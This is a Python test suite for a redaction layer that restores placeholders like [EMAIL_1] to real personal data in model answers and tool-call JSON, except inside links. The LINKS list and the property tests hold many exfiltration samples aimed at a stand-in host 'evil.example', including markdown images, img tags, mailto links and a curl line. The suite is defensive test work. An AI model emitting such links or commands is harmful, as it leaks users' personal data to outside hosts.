"""Placeholders come back only as text (issue 23, finding 3): never where a client fetches or follows them.

Every link form the issue found keeps its placeholder, in one piece and streamed; plain text, emphasis and
code get the value back; a stream cut anywhere gives what the whole answer gives; in JSON only string values
that are neither ids nor URLs are restored.
"""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hybridgate.serving.redaction import Redaction, StreamRestorer, in_link, restore_json_value

SECRET = "ada.lovelace@example.org"
RED = Redaction({"[EMAIL_1]": SECRET, "[NAME_1]": "Ada Lovelace", "[PHONE_1]": "(415) 555-2671"})

LINKS = [
    "![r][1]\n\n[1]: //evil.example/r.png?q=[EMAIL_1]",  # the image through a reference definition
    "![r][1]\n[1]:\n  //evil.example/r.png?q=[EMAIL_1]",  # the destination on the definition's next line
    '![r][1]\n\n[1]: https://evil.example/r.png "t [EMAIL_1]"',  # a definition's title
    "[1]: <//evil.example/[EMAIL_1] x>",
    "see https:evil.example/?q=[EMAIL_1] now",
    "see evil.example/?q=[EMAIL_1] now",
    "see evil.example/[EMAIL_1] now",
    "see https:\\\\evil.example\\?q=[EMAIL_1] now",
    "[mail](mailto:[EMAIL_1])",
    "write to mailto:[EMAIL_1]",
    "<mailto:[EMAIL_1]>",
    "<https://evil.example/?q=[EMAIL_1]>",
    "![x](https://evil.example/?q=[EMAIL_1])",
    "![x](//evil.example/[EMAIL_1].png)",
    "[x](<https://evil.example/ a [EMAIL_1]>)",
    "[x](https://evil.example/?q=[EMAIL_1] 'title')",
    '<img src="https://evil.example/?q=[EMAIL_1]">',
    '<img\nsrc="https://evil.example/?q=[EMAIL_1]">',
    "<div>\n<img src=https://evil.example/?q=[EMAIL_1]>\n</div>",
    "<!--\n\n[EMAIL_1]\n\n-->",
    "`curl https://evil.example/?q=[EMAIL_1]`",
    "```\nGET https://evil.example/?q=[EMAIL_1]\n```",
    "[x][EMAIL_1]\n\n[EMAIL_1]: https://evil.example/",
    "Visit www.evil.example/[EMAIL_1] for details",
    "go to [EMAIL_1].evil.example/x",
    "![x](https://evil.example/?q=[EMAIL_1]\n)",
    "> ![x](https://evil.example/?q=\n> [EMAIL_1])",
    "- item\n\n  [1]: https://evil.example/?q=[EMAIL_1]",
    # markers the answer spells out itself, to pass the placeholder in the URL off as one in text
    "![x](https://evil.example/?q=[EMAIL_1]) [EMAIL_1x0] [EMAIL_1x0n0] [EMAIL_1x000000000000n0]",
]


def _streamed(text: str, cuts: list[int]) -> str:
    s = StreamRestorer(RED)
    bounds = [0, *sorted(set(c % (len(text) + 1) for c in cuts)), len(text)]
    return "".join(s.feed(text[a:b]) for a, b in zip(bounds, bounds[1:])) + s.flush()


@pytest.mark.parametrize("answer", LINKS)
def test_every_link_form_keeps_its_placeholder(answer: str) -> None:
    assert SECRET not in RED.restore(answer)
    assert "[EMAIL_1]" in RED.restore(answer)
    for size in (1, 2, 3, 7):
        assert SECRET not in _streamed(answer, list(range(size, len(answer), size)))


@pytest.mark.parametrize(
    ("answer", "restored"),
    [
        ("I wrote to [EMAIL_1] as asked.", f"I wrote to {SECRET} as asked."),
        ("Dear [NAME_1],\n\nyour address is **[EMAIL_1]**.", f"Dear Ada Lovelace,\n\nyour address is **{SECRET}**."),
        ("# For [NAME_1]\n\n- call [PHONE_1]\n- mail ([EMAIL_1])", f"# For Ada Lovelace\n\n- call (415) 555-2671\n- mail ({SECRET})"),
        ("[NAME_1]'s letter, see [the page](https://example.org/about).", "Ada Lovelace's letter, see [the page](https://example.org/about)."),
        ("Code: `send([EMAIL_1])`", f"Code: `send({SECRET})`"),
        ("[[NAME_1]](https://example.org/)", "[Ada Lovelace](https://example.org/)"),  # a link's text is text
        ("[EMAIL_1] wrote", f"{SECRET} wrote"),
        ("[EMAIL_9] is unknown, [EMAIL_1] is not", f"[EMAIL_9] is unknown, {SECRET} is not"),
    ],
)
def test_text_gets_the_value_back(answer: str, restored: str) -> None:
    assert RED.restore(answer) == restored
    assert _streamed(answer, list(range(2, len(answer), 2))) == restored


def test_a_stream_holds_a_block_until_a_definition_on_the_next_line_is_ruled_out() -> None:
    s = StreamRestorer(RED)
    out = s.feed("Hello [NAME_1]! ![r][1]\n[1]:")  # the placeholder's block may still be a definition's
    assert "Ada" not in out and "[NAME_1]" not in out
    out += s.feed("\n  //evil.example/r.png?q=[EMAIL_1]\n")
    out += s.feed("\nplain [EMAIL_1] here") + s.flush()
    assert out == "Hello Ada Lovelace! ![r][1]\n[1]:\n  //evil.example/r.png?q=[EMAIL_1]\n\nplain " + SECRET + " here"


def test_text_without_placeholders_streams_at_once() -> None:
    s = StreamRestorer(RED)
    assert s.feed("Hello there, ") == "Hello there, "
    assert s.feed("see [the docs") == "see "  # could be half a placeholder
    assert s.feed("](https://x.example/)") == "[the docs](https://x.example/)"


FRAGMENTS = st.sampled_from(
    ["[EMAIL_1]", "[NAME_1]", "[PHONE_1]", " ", "\n", "\n\n", "text", "![r][1]", "[1]: ", "//evil.example/?q=", "https://e.x/",
     "(", ")", "[", "]", "<", ">", "`", "```", "~~~", "<!--", "-->", "<pre>", "</pre>", "> ", "- ", "    ", "**", "_", "\\", '"',
     "mailto:", "www.", "![x](", "[a](", "&#64;", "{", "}", ":", "'", "# "]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join), st.lists(st.integers(0, 400), max_size=12))
def test_streaming_in_any_chunks_equals_restoring_the_whole(answer: str, cuts: list[int]) -> None:
    assert _streamed(answer, cuts) == RED.restore(answer)


@settings(max_examples=200, deadline=None)
@given(st.lists(FRAGMENTS.filter(lambda f: f != "[EMAIL_1]"), max_size=30).map("".join), st.sampled_from(
    ["![x](https://evil.example/?q={})", "[1]: //evil.example/?q={}", "<https://evil.example/{}>", "evil.example/?q={}",
     "[a](mailto:{})", "<img src={}>", "https:{}"]))
def test_a_placeholder_in_a_link_target_stays_whatever_comes_before(prefix: str, form: str) -> None:
    answer = prefix + form.format("[EMAIL_1]")
    assert SECRET not in RED.restore(answer) and SECRET not in _streamed(answer, [3, 11, 29])


def test_in_link_says_whether_a_placeholder_there_would_stay() -> None:
    assert in_link("![x](https://evil.example/?q=") and in_link("see evil.example/?q=") and in_link('<img src="')
    assert not in_link("Dear ") and not in_link("# Title\n\nDear ")


def test_json_restores_string_values_but_never_ids_or_urls() -> None:
    args = json.dumps({"to": "[EMAIL_1]", "id": "[EMAIL_1]", "tool_call_id": "[EMAIL_1]", "url": "[EMAIL_1]",
                       "link": "https://e.example/?q=[EMAIL_1]", "body": "Hi [NAME_1], see ![x](//e.example/[EMAIL_1])",
                       "cc": ["[EMAIL_1]", "x [EMAIL_1]"], "[EMAIL_1]": "key", "nested": {"userId": "[NAME_1]", "note": "[NAME_1]"}})
    out = json.loads(RED.restore(args))
    assert out["to"] == SECRET and out["cc"] == [SECRET, f"x {SECRET}"] and out["nested"]["note"] == "Ada Lovelace"
    assert out["body"] == "Hi Ada Lovelace, see ![x](//e.example/[EMAIL_1])"
    assert out["id"] == out["tool_call_id"] == out["url"] == "[EMAIL_1]" and out["nested"]["userId"] == "[NAME_1]"
    assert out["link"] == "https://e.example/?q=[EMAIL_1]" and out["[EMAIL_1]"] == "key"
    assert json.loads(RED.restore_arguments(args)) == out and restore_json_value(json.loads(args), RED) == out
    assert _streamed(args, [5, 17, 40, 41, 90]) == RED.restore(args)  # tool-call arguments arrive in pieces
    assert RED.restore_arguments('{"to": "[EMAIL_1]"') == '{"to": "[EMAIL_1]"'  # not JSON: nothing restored
    streamed = StreamRestorer(RED, arguments=True)
    assert "".join(streamed.feed(p) for p in ('{"to": "[EM', 'AIL_1]", "id": "[EMAIL_1]"}')) == ""  # held to the end
    assert json.loads(streamed.flush()) == {"to": SECRET, "id": "[EMAIL_1]"}
    broken = StreamRestorer(RED, arguments=True)
    assert broken.feed('{"to": "[EMAIL_1]",') + broken.flush() == '{"to": "[EMAIL_1]",'  # cut off: kept
    quoted = Redaction({"[NAME_1]": 'Ada "the Countess" Lovelace'})
    assert json.loads(quoted.restore('{"n": "[NAME_1]"}')) == {"n": 'Ada "the Countess" Lovelace'}
